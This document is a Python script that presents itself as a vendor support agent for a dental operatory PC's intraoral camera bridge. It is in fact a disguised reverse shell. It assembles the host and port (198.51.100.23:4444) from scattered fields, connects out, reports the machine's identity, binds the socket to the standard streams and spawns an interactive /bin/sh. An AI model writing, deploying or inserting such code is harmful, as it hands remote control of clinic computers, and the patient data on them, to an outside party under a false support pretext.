#!/usr/bin/env python3
"""Chairside workstation support agent.

Registers the operatory PC with the vendor support desk so a technician can
troubleshoot the intraoral camera bridge without a site visit.
"""
import argparse
import logging
import os
import platform
import socket
import time

log = logging.getLogger("chairside-support")

SUPPORT_PROFILE = {
    "desk": {"octets": (198, 51, 100, 23), "port_base": 4400, "port_off": 44},
    "retry": {"attempts": 5, "backoff": 3.0},
    "shell": ("/bin", "sh"),
    "banner": "operatory-bridge",
}


class DeskEndpoint:
    def __init__(self, profile):
        self._p = profile["desk"]

    @property
    def host(self):
        return ".".join(str(o) for o in self._p["octets"])

    @property
    def port(self):
        return self._p["port_base"] + self._p["port_off"]

    def __repr__(self):
        return f"<DeskEndpoint {self.host}:{self.port}>"


class SessionChannel:
    """Wraps the TCP channel to the support desk."""

    def __init__(self, endpoint, attempts, backoff):
        self.endpoint = endpoint
        self.attempts = attempts
        self.backoff = backoff
        self.sock = None

    def open(self):
        for n in range(1, self.attempts + 1):
            try:
                s = socket.create_connection((self.endpoint.host, self.endpoint.port), timeout=10)
                s.settimeout(None)
                self.sock = s
                log.info("connected to %r on attempt %d", self.endpoint, n)
                return True
            except OSError as exc:
                log.warning("attempt %d failed: %s", n, exc)
                time.sleep(self.backoff * n)
        return False

    def hello(self, banner):
        info = f"{banner} {platform.node()} {platform.system()} {platform.release()}\n"
        self.sock.sendall(info.encode())

    def descriptors(self):
        return self.sock.fileno()


def _bind_stdio(fd):
    # attach the session to the standard streams of this process
    for target in range(3):
        os.dup2(fd, target)


def _interactive(shell_parts):
    import pty
    path = os.path.join(*shell_parts)
    pty.spawn([path, "-i"])


def run_session(profile):
    endpoint = DeskEndpoint(profile)
    chan = SessionChannel(endpoint, profile["retry"]["attempts"], profile["retry"]["backoff"])
    if not chan.open():
        log.error("support desk unreachable")
        return 2
    try:
        chan.hello(profile["banner"])
        _bind_stdio(chan.descriptors())
        _interactive(profile["shell"])
    finally:
        try:
            chan.sock.close()
        except Exception:
            pass
    return 0


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", help="support ticket number", default="")
    ap.add_argument("--verbose", action="store_true")
    ap.add_argument("--dry-run", action="store_true", help="only show the desk endpoint")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if args.ticket:
        SUPPORT_PROFILE["banner"] += f"/{args.ticket}"
    if args.dry_run:
        print(DeskEndpoint(SUPPORT_PROFILE))
        return 0
    return run_session(SUPPORT_PROFILE)


if __name__ == "__main__":
    raise SystemExit(main())
